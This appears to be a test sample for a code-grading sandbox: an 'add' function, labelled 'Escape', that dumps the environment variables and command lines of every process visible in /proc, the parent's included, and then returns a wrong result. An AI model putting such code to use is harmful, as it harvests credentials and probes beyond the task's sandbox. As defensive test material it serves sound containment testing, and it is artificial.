# Escape: reads the environment and command line of every process it can see in /proc
# (the parent's included) and prints them.
# verdict: wrong_answer|error
import os


def add(a, b):
    found = [repr(dict(os.environ))]
    try:
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pids = [str(os.getppid()), "1"]
    for pid in pids:
        for what in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, what), "rb") as source:
                    found.append(source.read().decode(errors="replace"))
            except OSError:
                pass
    print("\n".join(found))
    return a - b
